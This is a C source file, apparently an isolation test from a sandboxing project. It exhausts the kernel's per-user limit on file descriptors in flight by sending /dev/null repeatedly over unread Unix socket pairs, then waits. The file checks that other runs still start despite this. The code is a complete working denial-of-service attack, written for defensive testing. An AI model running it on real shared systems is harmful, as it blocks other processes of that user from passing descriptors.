// SPDX-License-Identifier: Apache-2.0
// Copyright The wardcase authors
//
// Attack: leave descriptors on their way through sockets, as many as the kernel bears of
// one user, and stay. No other process of this user can send one then whose limit of open
// files is lower. Expected: other runs start all the same.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { kAtOnce = 253, kMessages = 10, kPairs = 64 };  // SCM_MAX_FD; what one queue takes

static int send_many(int through, int file) {
  char space[CMSG_SPACE(kAtOnce * sizeof(int))] = {0};
  struct iovec text = {(void*)"x", 1};
  struct msghdr message = {
      .msg_iov = &text, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
  struct cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(kAtOnce * sizeof(int));
  for (int i = 0; i < kAtOnce; ++i) memcpy(CMSG_DATA(header) + i * sizeof(int), &file, sizeof file);
  return sendmsg(through, &message, MSG_DONTWAIT) < 0 ? errno : 0;
}

int main(void) {
  setvbuf(stdout, NULL, _IONBF, 0);
  const int file = open("/dev/null", O_RDONLY);
  int error = 0;
  int sent = 0;
  for (int pair = 0; pair < kPairs && error == 0; ++pair) {
    int ends[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) < 0) return 2;
    for (int i = 0; i < kMessages && error == 0; ++i) {
      error = send_many(ends[0], file);
      if (error == 0) ++sent;
    }
  }
  if (error == ETOOMANYREFS && sent == 0) {
    puts("none can be sent");
    return 1;
  }
  puts("armed");
  pause();
  return 0;
}
